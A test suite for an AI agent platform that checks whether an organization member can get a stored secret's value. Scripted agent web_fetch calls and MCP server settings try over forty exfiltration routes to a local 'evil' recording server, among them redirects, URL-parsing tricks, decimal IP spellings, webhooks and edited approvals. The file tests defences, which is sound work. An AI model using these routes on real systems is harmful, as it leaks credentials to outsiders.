import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from 'vitest'
import { resolveSecrets } from '../../src/secrets/resolve.ts'
import { startLab as startEngine } from '../engine/lab.ts'
import { startMcpServer } from '../support/mcp-server.ts'
import { toFetch } from '../support/rest.ts'
import type { Member } from '../support/server.ts'
import { use } from '../support/use.ts'

// A member of the organization tries to get the value of a secret (contract-2.md section 2.10).

const ORGANIZATION = 'canary-of-the-organization'
const SPACE = 'canary-of-a-private-space'
const CANARIES = [ORGANIZATION, SPACE]

const received: string[] = []
const sent: string[] = []
const answers: string[] = []
let [evilHost, goodHost] = ['', '']
const people = {} as Record<'owner' | 'ben' | 'eve', Member>

const record = async (
  to: string[],
  server: (url: string, headers: string) => { status: number; location?: string; body: string },
) => {
  const http = createServer(async (request, response) => {
    let body = ''
    for await (const chunk of request) body += chunk
    const headers = JSON.stringify(request.rawHeaders)
    to.push(`${request.url} ${headers} ${body}`)
    const answer = server(request.url ?? '', headers)
    response.writeHead(answer.status, {
      'content-type': 'text/plain',
      ...(answer.location && { location: answer.location }),
    })
    response.end(answer.body)
  }).listen(0, '127.0.0.1')
  await once(http, 'listening')
  return http
}

const mcp = await use(startMcpServer())
/** A server that the secrets are not for. It records what it gets, and repeats it. */
const evil = await use(record(received, (url, headers) => ({ status: 200, body: `${url} ${headers}` })))
evilHost = `localhost:${(evil.address() as AddressInfo).port}`
/** A server that `ALLOWED` may be sent to. It redirects to the other one, or repeats what it gets, also as a refusal. */
const good = await use(
  record(sent, (url, headers) =>
    url.startsWith('/away')
      ? { status: 302, location: `http://${evilHost}${url}`, body: '' }
      : { status: url.startsWith('/refused') ? 422 : 200, body: `${url} ${headers}` },
  ),
)
goodHost = `127.0.0.1:${(good.address() as AddressInfo).port}`
const lab = await use(startEngine({ ALLOW_PRIVATE_NETWORK: 'true', LOG_LEVEL: 'trace' }))
const organization = { organization: 'Acme' }
people.owner = await lab.server.member({ ...organization, role: 'owner' })
people.ben = await lab.server.member(organization)
people.eve = await lab.server.member({ organization: 'Elsewhere', role: 'owner' })
const { organizationId } = people.owner
await call('owner', 'POST', `/organizations/${organizationId}/env`, {
  secrets: { PLAIN: ORGANIZATION, ALLOWED: { value: ORGANIZATION, hosts: [goodHost, '127.0.0.1'] } },
})

async function call(who: keyof typeof people, method: string, path: string, body?: object) {
  const url = `${lab.server.url}${path.startsWith('/organizations') || !path.startsWith('//') ? `/api/v1${path}` : path.slice(1)}`
  const response = await fetch(url, toFetch({ url, token: people[who].token }, method, body ? { body } : {}))
  const text = await response.text()
  answers.push(text)
  return text.startsWith('{') ? JSON.parse(text) : text
}

/** Runs an agent of Ben whose model calls `web_fetch`, and reads all that the run left. */
async function fetchAs(input: object, { agent = {}, who = 'ben' as keyof typeof people, run = {} } = {}) {
  lab.model.script({ toolCalls: [{ id: 'c', name: 'web_fetch', input }] })
  const made = await call(who, 'POST', '/agents', {
    name: 'A',
    systemPrompt: 'x',
    model: 'compatible/m',
    allowedTools: ['web_fetch'],
    visibility: 'public',
    ...agent,
  })
  await readRun(made.id, run)
}

async function readRun(agentId: string, run: object = {}, who: keyof typeof people = 'ben') {
  const { executionId, chatId } = await call(who, 'POST', `/agents/${agentId}/execute`, { message: 'Go', ...run })
  for (const part of ['', '/logs', '/events', '/tree']) await call(who, 'GET', `/executions/${executionId}${part}`)
  await call(who, 'GET', `/chats/${chatId}/messages`)
  return executionId
}

/** Makes an MCP server of Ben, lists its tools, and runs an agent with it that asks for the headers it got. */
async function serverAs(fields: object, patch?: object, who: keyof typeof people = 'ben') {
  const made = await call(who, 'POST', '/mcps', { name: 'M', ...fields })
  if (patch) await call('ben', 'PATCH', `/mcps/${made.id}`, patch)
  await call('ben', 'GET', `/mcps/${made.id}`)
  await call('ben', 'GET', `/mcps/${made.id}/tools`)
  // The service refuses some of the servers.
  if (!made.id) return
  lab.model.script({ toolCalls: [{ id: 'c', name: 'headers', input: {} }] })
  const agent = { name: 'A', systemPrompt: 'x', model: 'compatible/m', mcpInstanceIds: [made.id] }
  await readRun((await call('ben', 'POST', '/agents', agent)).id)
}

const NAMES = ['PLAIN', 'ALLOWED'] as const
const mention = (name: string) => `\${${name}}`

type Way = [name: string, attempt: () => Promise<unknown>]

/** Ways of one secret. `host`: a server that is not among the secret's hosts. */
const waysOf = (name: string, host: () => string): Way[] => [
  [`web_fetch of ${name} in the query`, () => fetchAs({ url: `http://${host()}/?x=${mention(name)}` })],
  [`web_fetch of ${name} in the path`, () => fetchAs({ url: `http://${host()}/${mention(name)}` })],
  [`web_fetch of ${name} in a header`, () => fetchAs({ url: `http://${host()}/`, headers: { 'X-A': mention(name) } })],
  [`web_fetch of ${name} in the host`, () => fetchAs({ url: `http://${mention(name)}.${host()}/` })],
  [`web_fetch of ${name} as the user`, () => fetchAs({ url: `http://${mention(name)}@${host()}/` })],
  [`web_fetch of ${name} in the fragment`, () => fetchAs({ url: `http://${host()}/#${mention(name)}` })],
  [`web_fetch of ${name} with encoded braces`, () => fetchAs({ url: `http://${host()}/$%7B${name}%7D` })],
  [
    `web_fetch of ${name} with a header of the host`,
    () => fetchAs({ url: `http://${host()}/`, headers: { Host: goodHost, A: mention(name) } }),
  ],
  [
    `an MCP server with ${name} in a header`,
    () => serverAs({ url: `http://${host()}/mcp`, headers: { A: mention(name) } }),
  ],
  [`an MCP server with ${name} in the path`, () => serverAs({ url: `http://${host()}/${mention(name)}` })],
  [`an MCP server with ${name} in the query`, () => serverAs({ url: `http://${host()}/?a=${mention(name)}` })],
  [`an MCP server with ${name} in the host`, () => serverAs({ url: `http://${mention(name)}.${host()}/` })],
  [
    `an older MCP server with ${name}`,
    () => serverAs({ url: `http://${host()}/sse`, transport: 'sse', headers: { A: mention(name) } }),
  ],
  [
    `a credential that names ${name}`,
    () => serverAs({ url: `http://${host()}/mcp`, credentials: { A: { value: mention(name) } } }),
  ],
  [
    `a moved MCP server with ${name}`,
    () => serverAs({ url: 'http://127.0.0.1:1/mcp', headers: { A: mention(name) } }, { url: `http://${host()}/mcp` }),
  ],
  [
    `the prompt of an agent with ${name}`,
    () => fetchAs({ url: `http://${host()}/` }, { agent: { systemPrompt: mention(name) } }),
  ],
  [
    `a skill whose prompt has ${name}`,
    async () => {
      const skill = { name: `s-${crypto.randomUUID()}`, description: mention(name), prompt: mention(name) }
      const { skill: made } = await call('ben', 'POST', '/skills', skill)
      await fetchAs({ url: `http://${host()}/` }, { agent: { skillIds: [made.id] } })
    },
  ],
  [
    `a space whose instructions and name have ${name}`,
    async () => {
      const spaceInput = { name: mention(name), instructions: mention(name) }
      const { space } = await call('ben', 'POST', '/spaces', spaceInput)
      await fetchAs({ url: `http://${host()}/` }, { run: { spaceId: space.id } })
    },
  ],
  [
    `a mission whose prompt has ${name}`,
    async () => {
      const agent = { name: 'A', systemPrompt: 'x', model: 'compatible/m', allowedTools: ['web_fetch'] }
      const { id: agentId } = await call('ben', 'POST', '/agents', agent)
      const schedule = { type: 'none' }
      const { mission } = await call('ben', 'POST', '/missions', {
        title: mention(name),
        goal: mention(name),
        agentId,
        schedule,
      })
      await call('ben', 'POST', `/missions/${mission?.id}/run`)
      await lab.idle()
    },
  ],
  [
    `a call that a person edits to have ${name}`,
    async () => {
      const agent = { allowedTools: ['web_fetch'], permissions: [{ tool: 'web_fetch', mode: 'ask' }] }
      const made = await call('ben', 'POST', '/agents', {
        name: 'A',
        systemPrompt: 'x',
        model: 'compatible/m',
        ...agent,
      })
      lab.model.script({ toolCalls: [{ id: 'c', name: 'web_fetch', input: { url: `http://${host()}/` } }] })
      const run = await call('ben', 'POST', `/agents/${made.id}/execute`, { message: 'Go', background: true })
      const pending = async () => (await call('ben', 'GET', '/approvals?status=pending')).approvals
      await expect.poll(async () => (await pending()).length).toBe(1)
      const [{ id }] = await pending()
      await call('ben', 'POST', `/approvals/${id}/approve`, { input: { url: `http://${host()}/?x=${mention(name)}` } })
      await lab.idle()
      await call('ben', 'GET', `/executions/${run.executionId}/logs`)
    },
  ],
  [
    `options of a model provider with ${name}`,
    () => {
      const modelSettings = { providerOptions: { compatible: { user: mention(name), [mention(name)]: mention(name) } } }
      return fetchAs({ url: `http://${host()}/` }, { agent: { modelSettings } })
    },
  ],
  [
    `a webhook with ${name} in its address`,
    () => call('ben', 'POST', '/webhooks', { url: `http://${host()}/${mention(name)}`, events: ['*'] }),
  ],
  [
    `an MCP server with ${name} in its name, description and permissions`,
    () =>
      serverAs({
        url: mcp.url,
        name: mention(name),
        description: mention(name),
        permissions: [{ tool: mention(name), mode: 'ask' }],
      }),
  ],
  [`a message with ${name}`, () => fetchAs({ url: `http://${host()}/` }, { run: { message: mention(name) } })],
]

const ways: Way[] = [
  ...NAMES.flatMap((name) => waysOf(name, () => evilHost)),
  [
    'a redirect of web_fetch from an allowed host',
    () => fetchAs({ url: `http://${goodHost}/away?x=${mention('ALLOWED')}` }),
  ],
  [
    'a header that follows a redirect',
    () => fetchAs({ url: `http://${goodHost}/away`, headers: { A: mention('ALLOWED') } }),
  ],
  [
    'a redirect of an MCP server',
    () => serverAs({ url: `http://${goodHost}/away`, headers: { A: mention('ALLOWED') } }),
  ],
  ['an allowed host that repeats the query', () => fetchAs({ url: `http://${goodHost}/?x=${mention('ALLOWED')}` })],
  [
    'an allowed host that refuses the request and repeats it',
    () => fetchAs({ url: `http://${goodHost}/refused?x=${mention('ALLOWED')}`, headers: { A: mention('ALLOWED') } }),
  ],
  [
    'an allowed host that repeats the header',
    () => fetchAs({ url: `http://${goodHost}/`, headers: { A: mention('ALLOWED') } }),
  ],
  [
    'an allowed host that repeats basic credentials',
    () => fetchAs({ url: `http://${goodHost}/`, headers: { Authorization: `Basic ${mention('ALLOWED')}` } }),
  ],
  [
    'another port of an allowed host',
    () => fetchAs({ url: `http://127.0.0.1:${evilHost.split(':')[1]}/?x=${mention('ALLOWED')}` }),
  ],
  [
    'another spelling of an allowed host',
    () => fetchAs({ url: `http://2130706433:${evilHost.split(':')[1]}/?x=${mention('ALLOWED')}` }),
  ],
  [
    'an allowed host as the user of another',
    () => fetchAs({ url: `http://${goodHost}@${evilHost}/?x=${mention('ALLOWED')}` }),
  ],
  [
    'an allowed host before a backslash',
    () => fetchAs({ url: `http://${evilHost}\\@${goodHost}/?x=${mention('ALLOWED')}` }),
  ],
  [
    'an MCP server at an allowed host that fails with what it got',
    () => serverAs({ url: `http://${goodHost}/${mention('ALLOWED')}` }),
  ],
  ['reading the secrets', () => call('ben', 'GET', `/organizations/${people.ben.organizationId}/env`)],
  [
    'reading them over GraphQL',
    () =>
      call('ben', 'POST', '///graphql'.slice(1), {
        query: `{ organizationSecrets(orgId: "${people.ben.organizationId}") }`,
      }),
  ],
  [
    'adding a host to the secret',
    () =>
      call('ben', 'POST', `/organizations/${people.ben.organizationId}/env`, {
        secrets: { PLAIN: { value: 'x', hosts: [evilHost] } },
      }),
  ],
  [
    'a space of his own that names a secret of the organization',
    async () => {
      const { space } = await call('ben', 'POST', '/spaces', { name: 'Mine' })
      await fetchAs({ url: `http://${evilHost}/?x=${mention('PLAIN')}` }, { run: { spaceId: space.id } })
    },
  ],
  [
    'a secret of a private space of another member, by name',
    async () => {
      const { space } = await call('owner', 'POST', '/spaces', { name: 'Hers', visibility: 'private' })
      const secrets = { HIDDEN: { value: SPACE, hosts: [evilHost, goodHost] } }
      await call('owner', 'POST', `/spaces/${space.id}/secrets`, { secrets })
      await fetchAs({ url: `http://${evilHost}/?x=${mention('HIDDEN')}` }, { run: { spaceId: space.id } })
      await fetchAs({ url: `http://${evilHost}/?x=${mention('HIDDEN')}` })
    },
  ],
  [
    "a server of the owner, whose address the member changes after its owner's attachment",
    async () => {
      const { id } = await call('owner', 'POST', '/mcps', { name: 'O', url: mcp.url, headers: { A: mention('PLAIN') } })
      await call('ben', 'PATCH', `/mcps/${id}`, { url: `http://${evilHost}/mcp` })
      await call('ben', 'GET', `/mcps/${id}/tools`)
    },
  ],
  [
    'an agent of another organization',
    async () => {
      const agent = {
        name: 'Foreign',
        systemPrompt: 'x',
        model: 'compatible/m',
        visibility: 'public',
        allowedTools: ['web_fetch'],
      }
      const { id } = await call('eve', 'POST', '/agents', agent)
      await call('owner', 'PATCH', `/organizations/${people.owner.organizationId}/policy`, { foreignAgents: 'all' })
      lab.model.script({
        toolCalls: [
          { id: 'c', name: 'web_fetch', input: { url: `http://${goodHost}/foreign?x=${mention('ALLOWED')}` } },
        ],
      })
      await readRun(id)
    },
  ],
  [
    'a skill of another organization',
    async () => {
      const skill = { name: 'steal', description: 'd', prompt: 'p', visibility: 'public', builtInTools: ['web_fetch'] }
      const { skill: made } = await call('eve', 'POST', '/skills', skill)
      await fetchAs({ url: `http://${goodHost}/foreign?x=${mention('ALLOWED')}` }, { agent: { skillIds: [made.id] } })
    },
  ],
]

test('the tests try more than forty ways to a secret', () => {
  expect(ways.length).toBeGreaterThan(40)
})

test.each(ways)('a member does not get the value by %s', async (_, attempt) => {
  await attempt()
  const places = {
    received,
    answers,
    logs: lab.server.logs,
    prompts: lab.model.requests.map((each) => JSON.stringify(each.body)),
  }
  for (const [place, texts] of Object.entries(places)) {
    const text = texts.join('\n')
    for (const canary of CANARIES) {
      for (const form of [
        canary,
        Buffer.from(canary).toString('base64').slice(0, -4),
        Buffer.from(canary).toString('hex'),
      ]) {
        expect(text.includes(form), `${place}: ${form}`).toBe(false)
      }
    }
  }
})

test('the allowed host got the value where it was allowed, and never for strangers', () => {
  for (const url of [`/?x=${ORGANIZATION}`, `/${ORGANIZATION}`])
    expect(sent.some((request) => request.startsWith(`${url} `))).toBe(true)
  expect(sent.filter((request) => request.includes('/foreign'))).toEqual([])
  expect(answers.join()).toContain('secret_not_allowed')
  expect(answers.join()).toContain('[removed]')
})

test('a server gets secrets of the organization as long as an admin wrote it last', async () => {
  const fields = { name: 'Admin', url: mcp.url, headers: { 'X-Admin': mention('PLAIN') } }
  const { id } = await call('owner', 'POST', '/mcps', fields)
  const before = mcp.requests.length
  await call('ben', 'GET', `/mcps/${id}/tools`)
  expect(JSON.stringify(mcp.requests.slice(before).map(({ headers }) => headers))).toContain(ORGANIZATION)
  await lab.db.mcpServer.update({ where: { id }, data: { ownerId: people.ben.userId } })
  await call('ben', 'PATCH', `/mcps/${id}`, { description: 'mine' })
  const after = mcp.requests.length
  const refused = await call('ben', 'GET', `/mcps/${id}/tools`)
  expect(refused).toMatchObject({ statusCode: 502, code: 'secret_not_allowed' })
  expect(mcp.requests).toHaveLength(after)
})

test('a secret with a line break at its end is named, and not sent', async () => {
  await call('owner', 'POST', `/organizations/${organizationId}/env`, { secrets: { PASTED: `${ORGANIZATION}\n` } })
  const headers = { Authorization: `Bearer ${mention('PASTED')}` }
  const { id } = await call('owner', 'POST', '/mcps', { name: 'Pasted', url: mcp.url, headers })
  const { code, detail } = await call('owner', 'GET', `/mcps/${id}/tools`)
  expect([code, detail]).toEqual(['secret_not_allowed', expect.stringContaining('The secret PASTED has a line break')])
  expect(detail).not.toContain(ORGANIZATION)
})

test('a secret of the space of a run precedes the one of the organization', async () => {
  const { permissions: _, ...row } = await lab.db.space.findFirstOrThrow({ where: { organizationId, isDefault: true } })
  // The database may list a space before or behind the organization.
  for (const id of ['a-space', 'z-space']) {
    await lab.db.space.create({ data: { ...row, id, name: id, isDefault: false } })
    const secrets = { ALLOWED: { value: `value-of-${id}`, hosts: [goodHost] } }
    await call('owner', 'POST', `/spaces/${id}/secrets`, { secrets })
    await fetchAs({ url: `http://${goodHost}/?x=${mention('ALLOWED')}` }, { run: { spaceId: id } })
    expect(sent.at(-1)).toContain(`value-of-${id}`)
  }
})

test('a secret of a space goes anywhere for its present owner and admins alone, and over https', async () => {
  const space = await call('ben', 'POST', '/spaces', { name: 'Of Ben' })
  await call('ben', 'POST', `/spaces/${space.id}/secrets`, { secrets: { SPACED: SPACE } })
  const member = await lab.server.member(organization)
  const [admin, former] = [
    await lab.server.member({ ...organization, role: 'admin' }),
    await lab.server.member({ ...organization, role: 'admin' }),
  ]
  await lab.db.membership.deleteMany({ where: { userId: former.userId } })
  const { deps } = lab.server.service
  const closed = { ...deps, settings: { ...deps.settings, ALLOW_PRIVATE_NETWORK: false } }
  const resolve = (writtenBy: string | null, url = 'https://elsewhere.example/') => {
    const use = { organizationId, spaceId: space.id, url: new URL(url), writtenBy, isForeign: false }
    return resolveSecrets(closed, use, ['SPACED']).then(
      (values) => values.get('SPACED'),
      (error) => error.message,
    )
  }
  for (const { userId } of [people.ben, admin]) expect(await resolve(userId)).toBe(SPACE)
  for (const userId of [member.userId, former.userId, null]) {
    expect(await resolve(userId)).toMatch(/not sent to elsewhere.example: the host is not among its hosts/)
  }
  expect(await resolve(people.ben.userId, 'http://elsewhere.example/')).toMatch(/the address is not https/)
})
